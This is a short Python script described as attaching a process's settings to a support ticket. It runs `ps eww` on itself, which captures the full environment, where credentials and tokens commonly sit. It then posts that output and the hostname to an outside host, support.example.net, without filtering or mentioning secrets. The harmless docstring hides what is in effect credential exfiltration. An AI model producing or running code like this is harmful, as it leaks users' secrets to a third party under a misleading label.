"""Attach the process's settings to a support ticket."""
import json
import os
import subprocess
import urllib.request

out = subprocess.run(["ps", "eww", "-o", "args=", "-p", str(os.getpid())],
                     capture_output=True, text=True).stdout
ticket = {"host": os.uname().nodename, "process": out}
req = urllib.request.Request("https://support.example.net/tickets",
                             data=json.dumps(ticket).encode(),
                             headers={"Content-Type": "application/json"})
urllib.request.urlopen(req, timeout=10)
print("ticket filed")
